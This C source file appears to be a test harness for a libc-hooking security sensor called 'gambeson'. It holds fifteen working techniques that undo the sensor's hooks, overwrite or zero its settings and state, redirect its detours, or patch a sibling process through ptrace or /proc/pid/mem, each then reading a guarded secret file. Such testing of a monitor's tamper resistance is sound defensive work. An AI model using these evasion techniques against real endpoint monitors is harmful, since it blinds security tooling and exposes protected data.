/* SPDX-License-Identifier: Apache-2.0 */
/* undoing TECHNIQUE: the patches of the sensor undone, in this process and in another. Each then opens the secret. */
#include "canary.h"

#include <dlfcn.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/uio.h>
#include <sys/wait.h>

static uintptr_t page_of(const void *function)
{
	return (uintptr_t)function & ~(uintptr_t)4095;
}

/* What the file has at the place of libc's `function`: the code without the jumps. */
static void restore(uintptr_t page)
{
	Dl_info where;
	int fd;

	dladdr((void *)(page + 2048), &where);
	fd = open(where.dli_fname, O_RDONLY);
	(void)!pread(fd, (void *)page, 4096, (off_t)(page - (uintptr_t)where.dli_fbase));
}

static void text_written(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));

	if (mprotect((void *)page, 8192, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
		restore(page);
		restore(page + 4096);
	}
	show_file(SECRET);
}

static void text_given_back(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));

	(void)!madvise((void *)page, 8192, MADV_DONTNEED);
	show_file(SECRET);
}

static void map_again(int flags)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	Dl_info where;
	int fd;

	dladdr((void *)page, &where);
	fd = open(where.dli_fname, O_RDONLY);
	(void)!mmap((void *)page, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE | flags, fd,
	        (off_t)(page - (uintptr_t)where.dli_fbase));
	show_file(SECRET);
}

static void text_mapped_over(void)
{
	map_again(MAP_FIXED);
}

static void text_moved_over(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	void *fresh;
	Dl_info where;

	dladdr((void *)page, &where);
	fresh = mmap(NULL, 8192, PROT_READ | PROT_EXEC, MAP_PRIVATE, open(where.dli_fname, O_RDONLY),
	        (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!mremap(fresh, 8192, 8192, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)page);
	show_file(SECRET);
}

static void text_by_proc_mem(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	char fresh[8192];
	Dl_info where;

	dladdr((void *)page, &where);
	(void)!pread(open(where.dli_fname, O_RDONLY), fresh, sizeof(fresh), (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!pwrite(open("/proc/self/mem", O_RDWR), fresh, sizeof(fresh), (off_t)page);
	show_file(SECRET);
}

/* Whether the line of /proc/self/maps is what is looked for; where it lies. */
static int next_mapping(FILE *maps, const char *word, const char *rights, uintptr_t *from, uintptr_t *to)
{
	char line[512], mode[8];

	while (fgets(line, sizeof(line), maps))
		if (strstr(line, word) && sscanf(line, "%lx-%lx %4s", from, to, mode) == 3 && strcmp(mode, rights) == 0)
			return 1;
	return 0;
}

static int find_mapping(const char *word, const char *rights, uintptr_t *from, uintptr_t *to)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	int found = next_mapping(maps, word, rights, from, to);

	fclose(maps);
	return found;
}

/* A copy of the warden's settings says that everything is off; it takes their place. */
static void settings_replaced(void)
{
	uintptr_t from, to;
	char *copy;

	if (find_mapping("gambeson", "r--s", &from, &to)) {
		copy = mmap(NULL, to - from, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
		memcpy(copy, (const char *)from, to - from);
		memset(copy + 24, 0, 24);
		(void)!mremap(copy, to - from, to - from, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)from);
	}
	show_file(SECRET);
}

/* The pages of the sensor's image, what can be written last; their number. */
static size_t sensor_pages(uintptr_t *pages, size_t cap)
{
	FILE *maps = fopen("/proc/self/maps", "r");
	uintptr_t from, to, end = 0;
	char line[512];
	size_t n = 0;

	while (fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx", &from, &to) != 2 || strchr(line, '[') ||
		        (!strstr(line, "libgambeson") && (from != end || !strstr(line, " 00:00 0 "))))
			continue;
		end = to;
		for (; from < to && n < cap; from += 4096)
			pages[n++] = from;
	}
	fclose(maps);
	return n;
}

/* The sensor's pointer to the settings becomes zero; read(2) does not crash where nothing can be stored. */
static void state_emptied(void)
{
	static uintptr_t pages[1024];
	size_t count = sensor_pages(pages, 1024);
	int zero = open("/dev/zero", O_RDONLY);
	uintptr_t settings = 0, end;

	(void)find_mapping("gambeson", "r--s", &settings, &end);
	for (size_t i = 0; i < count; i++)
		for (uintptr_t at = pages[i]; settings && at < pages[i] + 4096; at += 8)
			if (*(volatile uintptr_t *)at == settings)
				(void)syscall(SYS_pread64, zero, at, 8, 0);
	show_file(SECRET);
}

/* One page at a time becomes what it was before the start. */
static void state_given_back(void)
{
	static uintptr_t pages[128];
	size_t count = sensor_pages(pages, 128);

	show_file(SECRET);
	for (size_t i = 0; i < count; i++)
		if (fork() == 0) {
			(void)!madvise((void *)pages[i], 4096, MADV_DONTNEED);
			show_file(SECRET);
			_exit(0);
		} else {
			wait(NULL);
		}
}

static void state_wiped_in_child(void)
{
	static uintptr_t pages[128];
	size_t count = sensor_pages(pages, 128);

	show_file(SECRET);
	for (size_t i = 0; i < count; i++) {
		(void)!madvise((void *)pages[i], 4096, MADV_WIPEONFORK);
		if (fork() == 0) {
			show_file(SECRET);
			_exit(0);
		}
		wait(NULL);
		(void)!madvise((void *)pages[i], 4096, MADV_KEEPONFORK);
	}
}

static int is_special(const char *line)
{
	return strstr(line, "[v") || strstr(line, "[stack") || strstr(line, "[heap") || strstr(line, "/opt/programs");
}

/* The detours go by pointers into the sensor's code; an untouched instruction of libc takes the place of all of them. */
static void detours_led_elsewhere(void)
{
	uintptr_t from, to, code_from, code_to, gadget = 0;
	FILE *maps = fopen("/proc/self/maps", "r");
	int fd = memfd_create("gadget", 0);
	uintptr_t page[512];
	char line[512];

	while (!gadget && next_mapping(maps, "libc.so", "r-xp", &from, &to))
		for (uintptr_t at = from; at + 3 < to && !gadget; at++)
			if (memcmp((const void *)at, "\x0f\x05\xc3", 3) == 0)
				gadget = at;
	rewind(maps);
	if (!find_mapping("libgambeson", "r-xp", &code_from, &code_to))
		gadget = 0;
	(void)!write(fd, &gadget, sizeof(gadget));
	while (gadget && fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx", &from, &to) != 2 || is_special(line) || !strstr(line, " 00:00 0 "))
			continue;
		for (; from < to && pwrite(fd, (const void *)from, 4096, 4096) == 4096; from += 4096) {
			(void)!pread(fd, page, sizeof(page), 4096);
			for (size_t i = 0; i < 512; i++) {
				if (page[i] < code_from || page[i] >= code_to)
					continue;
				(void)!mprotect((void *)from, 4096, PROT_READ | PROT_WRITE | PROT_EXEC);
				(void)syscall(SYS_pread64, fd, from + 8 * i, sizeof(gadget), 0);
			}
		}
	}
	show_file(SECRET);
}

static void text_attached_over(void)
{
	uintptr_t page = page_of(dlsym(RTLD_DEFAULT, "open"));
	int id = shmget(IPC_PRIVATE, 8192, IPC_CREAT | 0700);
	char *fresh = shmat(id, NULL, 0);
	Dl_info where;

	dladdr((void *)page, &where);
	if (fresh != (void *)-1)
		(void)!pread(open(where.dli_fname, O_RDONLY), fresh, 8192, (off_t)(page - (uintptr_t)where.dli_fbase));
	(void)!shmat(id, (void *)page, SHM_REMAP | SHM_EXEC | SHM_RDONLY);
	shmctl(id, IPC_RMID, NULL);
	show_file(SECRET);
}

static void text_given_back_by_process_madvise(void)
{
	struct iovec range = {(void *)page_of(dlsym(RTLD_DEFAULT, "open")), 8192};

	(void)syscall(440, (int)syscall(434, getpid(), 0), &range, 1, MADV_DONTNEED, 0);
	show_file(SECRET);
}

static pid_t start_sibling(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		usleep(200000);
		show_file(SECRET);
		_exit(0);
	}
	return pid;
}

/* The sibling's code is put back, so that it reads the secret when it wakes up. */
static void fresh_text(char *fresh, uintptr_t *page)
{
	Dl_info where;

	*page = page_of(dlsym(RTLD_DEFAULT, "open"));
	dladdr((void *)*page, &where);
	(void)!pread(open(where.dli_fname, O_RDONLY), fresh, 8192, (off_t)(*page - (uintptr_t)where.dli_fbase));
}

static void sibling_by_vm_writev(void)
{
	char fresh[8192];
	uintptr_t page;
	pid_t pid = start_sibling();
	struct iovec from = {fresh, sizeof(fresh)}, to;

	fresh_text(fresh, &page);
	to = (struct iovec){(void *)page, sizeof(fresh)};
	(void)!process_vm_writev(pid, &from, 1, &to, 1, 0);
	waitpid(pid, NULL, 0);
}

static void sibling_by_mem(void)
{
	char fresh[8192], name[64];
	uintptr_t page;
	pid_t pid = start_sibling();

	fresh_text(fresh, &page);
	(void)snprintf(name, sizeof(name), "/proc/%d/mem", pid);
	(void)!pwrite(open(name, O_RDWR), fresh, sizeof(fresh), (off_t)page);
	waitpid(pid, NULL, 0);
}

static void sibling_by_ptrace(void)
{
	char fresh[8192];
	uintptr_t page;
	pid_t pid = start_sibling();

	fresh_text(fresh, &page);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) {
		waitpid(pid, NULL, 0);
		for (size_t i = 0; i < sizeof(fresh); i += 8) {
			long word;

			memcpy(&word, fresh + i, sizeof(word));
			ptrace(PTRACE_POKETEXT, pid, page + i, word);
		}
		ptrace(PTRACE_DETACH, pid, 0, 0);
	}
	waitpid(pid, NULL, 0);
}

static const struct technique techniques[] = {
        {"text-write", text_written},
        {"text-madvise", text_given_back},
        {"text-mmap", text_mapped_over},
        {"text-mremap", text_moved_over},
        {"text-mem", text_by_proc_mem},
        {"text-shmat", text_attached_over},
        {"text-process-madvise", text_given_back_by_process_madvise},
        {"settings-replaced", settings_replaced},
        {"state-emptied", state_emptied},
        {"state-madvise", state_given_back},
        {"state-wiped", state_wiped_in_child},
        {"detours", detours_led_elsewhere},
        {"sibling-writev", sibling_by_vm_writev},
        {"sibling-mem", sibling_by_mem},
        {"sibling-ptrace", sibling_by_ptrace},
};

int main(int argc, char **argv)
{
	return run_technique(techniques, sizeof(techniques) / sizeof(techniques[0]), argc, argv);
}
